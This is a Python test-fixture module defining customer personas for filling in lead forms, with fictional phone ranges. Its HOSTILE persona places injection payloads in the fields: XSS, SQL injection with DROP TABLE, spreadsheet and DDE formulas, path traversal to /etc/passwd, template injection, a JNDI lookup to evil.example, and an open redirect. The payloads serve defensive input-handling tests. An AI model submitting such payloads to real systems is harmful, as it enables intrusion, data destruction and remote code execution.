"""The customers a lead can play, and how each one writes: what tends to break, in every field."""

from collections.abc import Mapping
from dataclasses import dataclass
from enum import StrEnum


class Persona(StrEnum):
    """The kind of customer a lead plays."""

    PLAIN = "plain"
    INTERNATIONAL = "international"
    PUNCTUATED = "punctuated"
    LONG = "long"
    HOSTILE = "hostile"


@dataclass(frozen=True, slots=True, kw_only=True)
class Manner:
    """How a persona writes. `{name}` is the spelled tag, `{word}` a word of this lead alone.

    First names, cities and countries are lists to choose from; none is built of the tag's
    syllables only, so none is ever found inside a tag. `phones` are ranges kept for fiction: a
    prefix and how many digits follow.
    """

    first_names: tuple[str, ...]
    last_name: str
    company: str
    street: str
    cities: tuple[str, ...]
    countries: tuple[str, ...]
    message: str
    website: str
    phones: tuple[tuple[str, int], ...]


# Every range is one that libphonenumber takes for valid, or forms would refuse the lead.
# Ofcom, "Telephone numbers for use in TV and radio drama programmes".
_BRITISH = (
    ("+442079460", 3),
    *((f"+44{area}4960", 3) for area in ("113", "114", "116", "117", "118", "121")),
    *((f"+44{area}4960", 3) for area in ("131", "141", "151", "161")),
    ("+441914980", 3),
    ("+442920180", 3),
)
# ARCEP, numbering plan: numbers for audiovisual works.
_FRENCH = tuple(
    (prefix, 4) for prefix in ("+3319900", "+3326191", "+3335301", "+3346571", "+3353649")
)
# Bundesnetzagentur, "Rufnummern für Medienproduktionen".
_GERMAN = tuple((prefix, 3) for prefix in ("+493023125", "+496990009", "+494066969", "+492214710"))
# North American Numbering Plan: 555-0100 to 555-0199 in every area.
_AMERICAN = tuple(
    (f"+1{area}55501", 2)
    for area in ("202", "206", "212", "213", "303", "305", "312", "404", "415", "503", "512", "602")
)
# ACMA, "Phone numbers for use in TV shows, films and creative works".
_AUSTRALIAN = tuple((f"+61{area}5550", 4) for area in ("2", "3", "7", "8"))

_STORY = (
    "We have been customers of yours for some years and were always content. This time it is a"
    " little more involved: there are three parts to the job, two of them indoors, and we would"
    " like to know beforehand how long each one takes and whether you could do them one after the"
    " other.\nAccess is from the yard behind the house; parking is free before noon. "
)

MANNERS: Mapping[Persona, Manner] = {
    Persona.PLAIN: Manner(
        first_names=("Hannah", "Frances", "Chris", "Hugh", "Felix", "Heather", "Wes", "Cathy"),
        last_name="{name}son",
        company="{word} Works",
        street="{number} {word} Lane",
        cities=("Whitby", "Chester", "Hexham", "Wrexham"),
        countries=("United Kingdom",),
        message="Hello,\nplease call about our hall at {word} Court. Thank you 🌿",
        website="https://www.{word}.example/Welcome",
        phones=_BRITISH,
    ),
    Persona.INTERNATIONAL: Manner(
        first_names=("Zoë", "Łukasz", "Søren", "Chloé", "Jürgen", "Françoise", "Siân", "Håkan"),
        last_name="{name}-Núñez",
        company="Käserei {word} Ünal GmbH",
        street="Straße der Fähre {number}, {word}",
        cities=("Köln", "Besançon", "Łódź", "Århus"),
        countries=("Österreich", "Türkiye"),
        message="Grüß Gott,\nça vous irait à 18 h près de {word} ? Große Freude 🎉 – até já",
        website="https://{word}.example/Über-uns",
        phones=(*_FRENCH, *_GERMAN),
    ),
    Persona.PUNCTUATED: Manner(
        first_names=("Anne-Marie J.", "Mary Ann-Sophie", "D'Arcy P.", "Jean-Luc F."),
        last_name="O'{name}",
        company='Fox & Hound "{word}", Ltd. (est. 1998)',
        street="{number}/B {word} Row; rear entrance",
        cities=("King's Lynn", "Stoke-on-Trent", "Bishop's Castle"),
        countries=("Guinea-Bissau", "Côte d'Ivoire"),
        message="Hi there!\nIt's for 50% of \"{word}\" (the rest isn't ours) & we'd pay <1 week 👍",
        website="https://{word}.example/a_b-c/?q=1&r=2%203#Top",
        phones=_BRITISH,
    ),
    Persona.LONG: Manner(
        first_names=("Friederike Charlotte Wilhelmine", "Christopher Alexander Fitzwilliam"),
        last_name="{name} von Hohenberg-Schwarzenfels und Wittgenstein",
        company="{word} Gesellschaft für Handwerk, Veranstaltungstechnik und Catering mbH & Co. KG",
        street="{number} Upper {word} Crescent, Building C, Fourth Floor, Rear Wing, Buzzer 12",
        cities=("Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",),
        countries=("Saint Vincent and the Grenadines",),
        message="Good evening,\n" + _STORY * 5 + "Yours, the whole of {word} Crew 🌷",
        website="https://{word}.example/" + "catalogue/" * 12 + "Page",
        phones=_AMERICAN,
    ),
    Persona.HOSTILE: Manner(
        first_names=("<script>alert(1)</script>", "<img src=x onerror=alert(2)>"),
        last_name="{name}'); DROP TABLE leads;--",
        company='=HYPERLINK("https://{word}.example","click")',
        street="@{number} {word} \\ ../../etc/passwd",
        cities=("+1+cmd|' /C calc'!A0",),
        countries=("-2+3|\u202eyrtnuoc",),
        message="{{{{7*7}}}} {word} ${{jndi:ldap://evil.example/x}}\n%s%n \\x00 ' OR '1'='1 🧨",
        website="https://{word}.example/?next=//evil.example&x=<svg>",
        phones=_AUSTRALIAN,
    ),
}
